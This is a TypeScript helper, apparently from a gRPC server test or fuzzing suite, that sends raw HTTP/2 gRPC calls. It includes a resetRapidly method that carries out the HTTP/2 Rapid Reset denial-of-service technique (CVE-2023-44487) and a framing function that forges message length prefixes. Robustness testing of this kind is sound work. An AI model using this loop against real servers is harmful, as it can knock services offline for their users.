import { once } from 'node:events';
import { type ClientHttp2Session, type ClientHttp2Stream, connect, constants } from 'node:http2';

/** A gRPC connection on which anything can be said. */
export class RawGrpc {
  private readonly session: ClientHttp2Session;

  constructor(address: string) {
    this.session = connect(`http://${address}`);
    this.session.on('error', () => undefined);
  }

  /** Begins a call; what happens to it is the caller's to see. */
  open(path: string, headers: Record<string, string> = {}): ClientHttp2Stream {
    const stream = this.session.request({
      ':method': 'POST',
      ':path': path,
      'content-type': 'application/grpc',
      te: 'trailers',
      ...headers,
    });
    stream.on('error', () => undefined).on('data', () => undefined);
    return stream;
  }

  /** Sends one body unchanged. Resolves to `grpc-status`, or to how the call ended without one. */
  async send(path: string, body: Buffer, headers: Record<string, string> = {}): Promise<string> {
    if (this.session.destroyed) return 'no connection';
    const stream = this.open(path, headers);
    let status = '';
    const noted = (fields: Record<string, unknown>): void => {
      status = String((fields['grpc-status'] as string | undefined) ?? status);
    };
    stream.on('response', noted).on('trailers', noted);
    const timer = setTimeout(() => {
      stream.close(constants.NGHTTP2_CANCEL);
    }, 20_000);
    stream.end(body);
    await once(stream, 'close').catch(() => undefined);
    clearTimeout(timer);
    return status === '' ? `reset ${stream.rstCode}` : status;
  }

  /** Starts a number of calls and cancels each at once (CVE-2023-44487). */
  async resetRapidly(path: string, times: number): Promise<void> {
    for (let n = 0; n < times && !this.session.destroyed; n++) {
      this.open(path).close(constants.NGHTTP2_CANCEL);
      if (n % 500 === 499)
        await new Promise((resolve) => {
          setImmediate(resolve);
        });
    }
  }

  close(): void {
    this.session.destroy();
  }
}

/** One message with its prefix of five bytes, whose length may be a lie. */
export function framed(message: Buffer, { packed = false, length = message.length } = {}): Buffer {
  const prefix = Buffer.alloc(5);
  prefix.writeUInt8(packed ? 1 : 0, 0);
  prefix.writeUInt32BE(length, 1);
  return Buffer.concat([prefix, message]);
}
